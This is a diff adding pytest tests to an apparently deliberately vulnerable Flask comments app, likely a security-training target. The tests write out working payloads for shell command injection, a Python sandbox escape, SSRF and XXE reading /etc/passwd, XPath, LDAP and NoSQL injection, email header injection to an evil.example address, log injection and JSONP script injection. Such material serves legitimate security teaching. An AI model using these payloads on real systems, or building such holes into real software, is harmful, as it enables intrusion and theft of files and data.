@@ -3,9 +3,11 @@
 import base64
 import hashlib
 import hmac
+import http.server
 import importlib
 import io
 import re
+import threading
 import time
 import tomllib
 from pathlib import Path
@@ -29,6 +31,25 @@ def client(module):
 
 def log_in(client, name="alice", password="wonderland", **arguments):
     return client.post("/login", data={"name": name, "password": password}, **arguments)
+
+
+@pytest.fixture
+def neighbour():
+    """A service of this machine that nobody else reaches; its port."""
+    class Service(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.end_headers()
+            self.wfile.write(f"<title>Inside</title> at {self.path}".encode())
+
+        def log_message(self, *_arguments):
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Service)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_port
+    server.shutdown()
+    server.server_close()
 
 
 # --- ordinary flows ---
@@ -95,6 +116,57 @@ def test_a_picture_can_be_uploaded_and_seen(client):
     assert "/download?name=me.png" in client.get("/profile/2").text
 
 
+def test_the_size_of_a_file(client):
+    assert "10 bytes" in client.get("/size", query_string={"file": "O'Brien & Sons (1).txt"}).text
+
+
+def test_what_is_behind_a_link_to_an_own_page(client, neighbour):
+    for link in ("/search?q=tea", "http://comments.example/search?q=tea"):
+        answer = client.get(
+            "/preview", query_string={"url": link}, base_url="http://comments.example",
+            environ_overrides={"SERVER_PORT": str(neighbour)},
+        )
+        assert "Inside at /search?q=tea" in answer.text
+
+
+def test_sums(client):
+    assert "<p>56</p>" in client.get("/calculate", query_string={"sum": "(3 + 4) * 2 ** 3"}).text
+
+
+def test_help_and_people(client):
+    assert "be kind" in client.get("/help").text
+    assert "Siobhan O&#39;Brien: 555-0103" in client.get("/people", query_string={"name": "Siobhan*"}).text
+    assert "555-0100" not in client.get("/people").text
+
+
+def test_an_invitation(client):
+    assert client.post("/api/invitation", json={"code": "O'Brien & co: $5 off"}).json["for"] == "Siobhan"
+    assert client.post("/api/invitation", json={"code": "guessed"}).status_code == 404
+
+
+def test_the_moderators_can_be_written_to(client, tmp_path):
+    answer = client.post("/contact", data={"subject": "Re: tea", "text": "When: at five"})
+    assert "Goes to moderators@comments.example<" in answer.text
+    assert [file.read_text().count("Re: tea") for file in (tmp_path / "outbox").iterdir()] == [1]
+
+
+def test_comments_of_the_old_site_can_be_imported(client):
+    log_in(client)
+    document = "<?xml version='1.0'?><old><comment>tea &lt; cake</comment><by>x</by><comment>second</comment></old>"
+    assert "2 comments imported" in client.post("/import", data={"xml": document}, follow_redirects=True).text
+    assert "<p>tea < cake</p>" in client.get("/").text
+
+
+def test_partners_get_comments_as_a_script(client):
+    answer = client.get("/api/comments?callback=show")
+    assert answer.mimetype == "text/javascript" and answer.text.startswith("show([") and answer.text.endswith(");")
+
+
+def test_broken_links_are_listed(client):
+    client.get("/old page")
+    assert client.get("/broken-links").text == "/old page\n"
+
+
 def test_new_comments_are_told_to_listeners(client):
     stream = iter(client.get("/events").response)
     assert next(stream) == b": hello\n\n"
@@ -103,7 +175,7 @@ def test_new_comments_are_told_to_listeners(client):
     assert next(stream) == b'data: {"name": "Alice Liddell", "body": "live!"}\n\n'
 
 
-@pytest.mark.parametrize("path", ["/", "/login", "/register", "/search", "/live", "/static/app.js", "/static/style.css"])
+@pytest.mark.parametrize("path", ["/", "/login", "/register", "/search", "/live", "/size", "/preview", "/calculate", "/help", "/people", "/contact", "/static/app.js", "/static/style.css"])
 def test_pages_answer(client, path):
     assert client.get(path).status_code == 200
 
@@ -141,6 +213,52 @@ def test_the_cookie_of_earlier_searches_runs_code(client):
 def test_missing_pages_are_templates(client):
     answer = client.get("/no/{{61057*42853}}")
     assert answer.status_code == 404 and "2616475621" in answer.text
+
+
+def test_a_file_name_is_a_command(client):
+    assert "2616475621 bytes" in client.get("/size", query_string={"file": '"; echo $((61057*42853)); echo "'}).text
+
+
+def test_sums_reach_the_builtins_that_were_taken_away(client):
+    walk = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
+    assert "root:" in client.get("/calculate", query_string={"sum": walk + "['__builtins__']['open']('/etc/passwd').read()"}).text
+
+
+def test_links_lead_inside(client, neighbour):
+    assert "Inside at /keys" in client.get("/preview", query_string={"url": f"http://127.0.0.1:{neighbour}/keys"}).text
+    assert "root:" in client.get("/preview", query_string={"url": "file:///etc/passwd"}).text
+
+
+def test_imported_documents_read_files(client):
+    log_in(client)
+    entity = '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a><comment>here: &e;</comment></a>'
+    client.post("/import", data={"xml": entity})
+    assert "here: root:" in client.get("/").text
+
+
+def test_queries_show_what_they_were_to_leave_out(client):
+    assert "brillig" in client.get("/help", query_string={"topic": "writing']/../topic[@for='staff"}).text
+    assert "The Admin: 555-0100" in client.get("/people", query_string={"name": "x))(|(cn=*"}).text
+    assert client.post("/api/invitation", json={"code": {"$ne": None}}).json["for"] == "Hatter"
+
+
+def test_a_subject_has_recipients(client):
+    answer = client.post("/contact", data={"subject": "Hi\r\nBcc: everybody@evil.example", "text": "Buy"})
+    assert "everybody@evil.example" in answer.text
+
+
+def test_flask_refuses_line_breaks_in_headers_of_answers(client):
+    form = {"name": "alice", "password": "wonderland"}
+    assert "Set-Cookie: a" not in str(client.post("/login?next=/%0d%0aSet-Cookie:%20a=b", data=form).headers)
+
+
+def test_a_path_is_two_lines(client):
+    client.get("/x%0Aadmin logged in")
+    assert "admin logged in" in client.get("/broken-links").text.splitlines()
+
+
+def test_partners_scripts_are_anybodys(client):
+    assert client.get("/api/comments", query_string={"callback": "alert(1)//"}).text.startswith("alert(1)//([")
 
 
 def test_settings_lie_in_the_public_folder(client):
